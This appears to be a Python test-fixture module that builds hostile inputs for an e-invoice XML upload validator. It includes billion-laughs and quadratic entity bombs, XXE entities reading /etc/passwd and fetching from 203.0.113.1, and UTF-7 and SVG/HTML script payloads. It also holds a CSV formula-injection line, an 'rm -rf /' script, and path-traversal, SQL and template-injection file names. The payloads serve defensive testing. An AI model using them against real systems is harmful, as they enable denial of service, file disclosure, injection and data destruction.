"""XML made to hurt, and everything that is no document at all."""

from __future__ import annotations

from tests.hostile.kinds import ANY_END, Hostile, as_document, at_the_door

_NAMESPACE = "http://crd.gov.pl/wzor/2025/06/25/13775/"
_BAD_XML = frozenset({"invalid_xml", "other_xml"})
_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'


def _invoice(inside: str) -> str:
    return f'{_HEAD}<Faktura xmlns="{_NAMESPACE}">{inside}</Faktura>'


def _laughs() -> str:
    lines = ['<!ENTITY a0 "ha">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)]
    return f"{_HEAD}<!DOCTYPE Faktura [{''.join(lines)}]><Faktura xmlns='{_NAMESPACE}'>&a11;</Faktura>"


def _xml() -> dict[str, str | bytes]:
    outside = f"{_HEAD}<!DOCTYPE Faktura [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><Faktura xmlns='{_NAMESPACE}'>&x;</Faktura>"
    return {
        "miliard smiechow": _laughs(),
        "kwadratowa bomba": f"{_HEAD}<!DOCTYPE Faktura [<!ENTITY a '{'x' * 50_000}'>]>{_invoice('&a;' * 5_000).removeprefix(_HEAD)}",
        "plik z serwera": outside,
        "adres z sieci": outside.replace("file:///etc/passwd", "http://203.0.113.1/x"),
        "encja parametru": f"{_HEAD}<!DOCTYPE Faktura [<!ENTITY % p SYSTEM 'http://203.0.113.1/p'> %p;]><Faktura xmlns='{_NAMESPACE}'/>",
        "glebokie drzewo": _invoice("<a>" * 100_000),
        "miliony elementow": _invoice("<a/>" * 900_000),
        "ogromny atrybut": _invoice(f"<a b='{'x' * 3_000_000}'/>"),
        "ponad cztery megabajty": _invoice("x" * 5_000_000),
        "inna przestrzen nazw": f"{_HEAD}<Faktura xmlns='urn:inna'/>",
        "inny korzen": f"{_HEAD}<Zamowienie/>",
        "uciety": _invoice("<Fa><P_2>1</P_2>")[:-40],
        "zle znaki": _invoice("\x00\x01").encode(),
        "obce kodowanie": _invoice("").replace("UTF-8", "x-mac-klingon").encode(),
        "utf-7": _invoice("+ADw-script+AD4-").replace("UTF-8", "UTF-7").encode(),
        "sam naglowek": _HEAD,
    }


def _strange_values() -> str:
    fields = "<P_1>2026-99-99</P_1><P_2>" + "9" * 5_000 + "</P_2><P_15>NaN</P_15><P_13_1>1e999999</P_13_1><P_14_1>-0.00</P_14_1>"
    return _invoice(f"<Podmiot1/><Podmiot2/><Fa><KodWaluty>&lt;script&gt;</KodWaluty><RodzajFaktury>VAT</RodzajFaktury>{fields}</Fa>")


def made() -> dict[str, Hostile]:
    """Every hostile text by a name that says what is wrong with it."""
    xml = {f"xml {name}": as_document(text if isinstance(text, bytes) else text.encode(), _BAD_XML) for name, text in _xml().items()}
    refused = {
        "pusty": (b"", "empty_file"),
        "jeden bajt": (b"x", "unsupported_type"),
        "same zera": (bytes(70_000), "unsupported_type"),
        "tekst": (b"to tylko tekst", "unsupported_type"),
        "csv": (b"numer;kwota\n=cmd|'/c calc'!A1;1\n", "unsupported_type"),
        "html": (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "dangerous_type"),
        "svg": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "dangerous_type"),
        "svg jako xml": (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "dangerous_type"),
        "program": (b"MZ\x90\x00" + bytes(300), "dangerous_type"),
        "elf": (b"\x7fELF" + bytes(300), "dangerous_type"),
        "skrypt": (b"#!/bin/sh\nrm -rf /\n", "dangerous_type"),
        "zip": (b"PK\x03\x04" + bytes(300), "archive_file"),
        "gzip": (b"\x1f\x8b\x08" + bytes(300), "archive_file"),
        "stary word": (b"\xd0\xcf\x11\xe0" + bytes(300), "office_file"),
    }
    xml["xml ogromny atrybut"] = as_document(xml["xml ogromny atrybut"].content, ANY_END)
    doors = {name: at_the_door(content, code) for name, (content, code) in refused.items()}
    return xml | doors | {"xml dziwne wartosci": as_document(_strange_values().encode(), ANY_END)}


NAMES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\x.png",
    "/absolutna/sciezka.png",
    "con.png",
    "dlu" + "g" * 240 + "a.png",
    "nowa\tlinia.png",
    "<script>alert(1)</script>.png",
    "\u202egnp.exe.png",
    "zażółć gęślą jaźń 🧾.png",
    "'; DROP TABLE faktury_documentupload; --.png",
    "%00.png",
    "...png",
    "{{7*7}}{% debug %}.png",
)
"""What a client may call a file; each is only ever text to show."""
